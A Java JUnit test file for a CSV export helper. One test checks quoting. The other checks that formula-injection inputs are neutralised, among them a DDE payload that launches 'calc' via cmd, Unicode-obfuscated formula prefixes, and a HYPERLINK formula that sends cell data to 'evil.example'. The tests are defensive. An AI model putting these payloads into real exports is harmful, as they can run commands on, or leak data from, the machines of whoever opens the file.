package org.priorauth.inbox.reports;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;

class CsvTest {

    public record Row(String payer, List<String> codes, BigDecimal rate, Integer cases) {}

    @Test
    void rowsAreQuotedAndFiguresStayFigures() {
        // Given
        List<Row> rows = List
                .of(new Row("Aetna, \"East\"\nregion", List.of("97110", "97140"), new BigDecimal("-0.50"), null));
        // When
        String csv = Csv.of(Row.class, rows);
        // Then
        assertThat(csv).isEqualTo("payer,codes,rate,cases\r\n\"Aetna, \"\"East\"\"\nregion\",97110; 97140,-0.50,\r\n");
    }

    @Test
    void noTextBecomesAFormula() {
        // Given
        List<String> hostile = List.of("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =cmd|' /C calc'!A0",
                "\u00A0=1", "\u200B=1", "\uFEFF=1", "\uFF1D1+1", "\uFF20x", "=HYPERLINK(\"http://evil.example?\"&A1)");
        // When
        List<String> cells = hostile.stream().map(Csv::safe).toList();
        // Then
        assertThat(cells).allMatch(cell -> cell.startsWith("'"));
        assertThat(Stream.of("aetna", "a=1", "97110", "", "'x").map(Csv::safe)).containsExactly("aetna", "a=1", "97110",
                "", "'x");
    }
}
